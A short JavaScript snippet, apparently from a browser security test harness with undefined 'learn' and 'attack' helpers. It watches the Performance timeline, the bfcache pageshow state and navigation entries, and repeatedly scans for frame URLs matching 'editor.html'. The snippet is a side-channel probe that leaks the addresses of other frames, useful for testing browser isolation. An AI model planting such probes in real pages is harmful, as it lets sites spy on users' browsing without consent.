// Reads every entry of the performance timeline, which names addresses of frames.
new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) learn(JSON.stringify(entry));
}).observe({ entryTypes: PerformanceObserver.supportedEntryTypes });
addEventListener('pageshow', ({ persisted }) => {
  learn(persisted);
  learn(JSON.stringify(performance.getEntriesByType('navigation')));
});
attack(() => {
  for (const entry of performance.getEntries()) {
    if (!/editor\.html/.test(entry.name)) continue;
    learn(`observed ${entry.name}`);
  }
}, 200);
